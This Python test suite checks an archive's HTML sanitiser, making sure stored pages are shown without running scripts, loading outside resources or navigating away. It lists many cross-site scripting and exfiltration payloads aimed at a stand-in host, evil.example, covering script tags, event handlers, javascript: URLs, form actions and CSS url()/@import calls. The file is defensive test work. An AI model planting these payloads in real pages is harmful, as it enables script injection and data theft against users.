"""Whatever a stored page holds, what is shown of it runs nothing, loads nothing from elsewhere and leads nowhere."""

import re
import time
from datetime import UTC, datetime

import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.page_view.safe_page import to_safe_page
from extract.errors import ExtractionError
from extract.page import Page

URL = "https://x.example/2026/essay/"
ADDRESS = "/-/asset/urn:uuid:1"


def show(html, images=(), sheets=None):
    """Return a page as it is shown; the archive has these images and stylesheets."""
    page = Page(url=URL, fetched_at=datetime(2026, 3, 1, tzinfo=UTC), content_type="text/html", body=html.encode())
    return to_safe_page(
        page, find_image=lambda url: ADDRESS if url in images else None, find_sheet=(sheets or {}).get
    )


def loads(html):
    """Return everything in a page that a browser would load, go to or run."""
    tree = lxml.html.document_fromstring(html)
    found = [
        f"<{element.tag}>" for element in tree.iter("script", "iframe", "form", "object", "embed", "base", "link")
    ]
    for element in tree.iter():
        for name, value in element.attrib.items():
            if name.startswith("on") or name in {"srcset", "action", "formaction", "poster", "data", "ping"}:
                found.append(f"{element.tag} {name}")
            if name in {"src", "href"} and not value.startswith(("/-/asset/", "#")):
                found.append(f"{element.tag} {name}={value}")
            if name == "http-equiv":
                found.append("meta refresh")
    styles = "".join(style.text or "" for style in tree.iter("style"))
    styles += "".join(element.get("style", "") for element in tree.iter())
    found += [url for url in re.findall(r"url\(([^)]*)\)", styles) if url.strip("\"'") and "/-/asset/" not in url]
    found += re.findall(r"@import[^;]*", styles)
    return found


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<script src=https://evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script><image href=https://evil.example/a.png /></svg>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<base href='https://evil.example/'><img src=a.png><a href=b>b</a>",
        "<form action=https://evil.example/><input name=a><button formaction=//evil.example>Log in</button></form>",
        "<iframe src=https://evil.example/></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=https://evil.example/></object><embed src=https://evil.example/>",
        "<a href='javascript:alert(1)'>a</a><a href='https://evil.example/' ping=https://evil.example/>b</a>",
        "<a href=' java\nscript:alert(1)'>a</a><a href='data:text/html,<script>alert(1)</script>'>b</a>",
        "<style>@import 'https://evil.example/a.css'; a { background: url(https://evil.example/a.png) }</style>",
        "<style>a { b: url( 'https://evil.example/a.png' ) } @font-face { src: url(//evil.example/f) }</style>",
        "<link rel=stylesheet href=https://evil.example/a.css><link rel=prefetch href=https://evil.example/>",
        "<p style='background: url(https://evil.example/a.png)'>a</p><td background=https://evil.example/a.png>",
        "<video src=https://evil.example/a.mp4 poster=https://evil.example/a.png><source src=//evil.example></video>",
        "<img srcset='https://evil.example/a.png 2x' src=''><picture><source srcset=//evil.example/a></picture>",
        "<template><script>alert(1)</script></template><noscript><img src=https://evil.example/a.png></noscript>",
        "<p style='background: u\\rl(https://evil.example/a.png)'>a</p>",
        "<style></style><img src=x onerror=alert(1)></style>",
        "<style>a::before { content: '</style><script>alert(1)</script>' }</style>",
        "<xmp><script>alert(1)</script></xmp><noembed><script>alert(1)</script></noembed>",
        "<body onload=alert(1) style='background: url(https://evil.example/)'>",
        "<portal src=https://evil.example/></portal><frameset><frame src=https://evil.example/></frameset>",
    ],
)
def test_nothing_of_a_hostile_page_is_left(hostile):
    shown = show(f"<html><head><title>T</title></head><body><p>Before</p>{hostile}<p>After</p></body></html>")
    assert loads(shown.html) == []
    assert "Before" in shown.html
    assert "alert(1)" not in re.sub(r"<title>.*?</title>", "", shown.html)


def test_text_classes_and_what_the_archive_has_stay():
    html = """<html lang=en class=a><head><title>A & B</title><link rel=stylesheet href=/s.css media=screen>
    <style>.x { color: red }</style></head><body class="single dark" style="color: blue"><h1 id=t class=x>Grain</h1>
    <img src=/blank.gif data-src=/a.jpg alt="A quay" width=4><img src=/b.jpg alt="A ship">
    <a href="#t">up</a><a href=/other/>other</a></body></html>"""
    sheets = {
        "https://x.example/s.css": "@import 'i.css'; .y { background: url(p.png) }",
        "https://x.example/i.css": "i{}",
    }
    shown = show(html, images={"https://x.example/a.jpg", "https://x.example/p.png"}, sheets=sheets)
    assert (shown.images, shown.missing_images, shown.sheets, shown.missing_sheets) == (1, 1, 2, 0)
    assert '<html class="a" lang="en">' in shown.html
    assert '<body class="single dark" style="color: blue">' in shown.html
    assert "<title>A &amp; B</title>" in shown.html
    assert '<h1 id="t" class="x">Grain</h1>' in shown.html
    assert f'<img src="{ADDRESS}" alt="A quay" width="4">' in shown.html
    assert "[Image not in this archive: A ship]" in shown.html
    assert '<a href="#t">up</a><a title="/other/">other</a>' in shown.html
    assert "@media screen" in shown.html
    assert f'url("{ADDRESS}")' in shown.html
    assert "i{}" in shown.html
    assert ".x { color: red }" in shown.html


def test_a_sheet_for_print_is_none_of_the_screen_unless_a_script_turns_it_on():
    sheets = {"https://x.example/p.css": "p{}", "https://x.example/late.css": "i{}"}
    html = """<head><link rel=stylesheet href=/p.css media=print><link rel=stylesheet href=/gone.css media=print>
    <link rel=stylesheet href=/late.css media=Print onload="this.media='all'"></head><p>T</p>"""
    shown = show(html, sheets=sheets)
    assert (shown.sheets, shown.missing_sheets) == (1, 0)
    assert "<style>i{}</style>" in shown.html


def test_an_end_tag_within_a_stylesheet_does_not_end_it():
    shown = show(
        "<link rel=stylesheet href=/s.css><p>T</p>", sheets={"https://x.example/s.css": "a{b:'</style><p>'}"}
    )
    assert shown.html.count("</style>") == 1


def test_stylesheets_that_import_each_other_come_to_an_end():
    sheets = {"https://x.example/s.css": "@import '/s.css'; a{}"}
    assert show("<link rel=stylesheet href=/s.css><p>T</p>", sheets=sheets).html.count("a{}") == 2


@pytest.mark.parametrize(
    "html", ["<div>" * 10_000 + "<script>alert(1)</script>text", "<p>" * 50_000, "<p " + "a " * 9_000]
)
def test_a_page_beyond_the_limits_is_refused_by_a_sentence(html):
    with pytest.raises(ExtractionError, match=r"nested|tags|attributes"):
        show(html)


def test_five_megabytes_take_a_few_seconds():
    started = time.process_time()
    shown = show(
        "<body>" + "<p class=a>Some words about harbours and grain, and a <b>ship</b>.</p>" * 9_000 + "x" * 4_400_000
    )
    assert len(shown.html) > 5_000_000
    assert time.process_time() - started < 10


@given(st.lists(st.sampled_from([
    "<p>", "</p>", "<svg>", "<style>", "</style>", "<script>", "</script>", "<!--", "-->", "<a href=javascript:1>",
    "<math>", "<table>", "<img src=//e.example onerror=1>", "<noscript>", "</noscript>", "<title>", "<textarea>",
    "<select>", "<template>", "<form action=//e.example>", "'", '"', "x", "<iframe>",
    "<annotation-xml encoding=text/html>", "<mtext>",
]), max_size=14))  # fmt: skip
def test_no_mixture_of_tags_gets_through(parts):
    try:
        shown = show("<body><p>T</p>" + "".join(parts))
    except ExtractionError:
        return
    assert loads(shown.html) == []
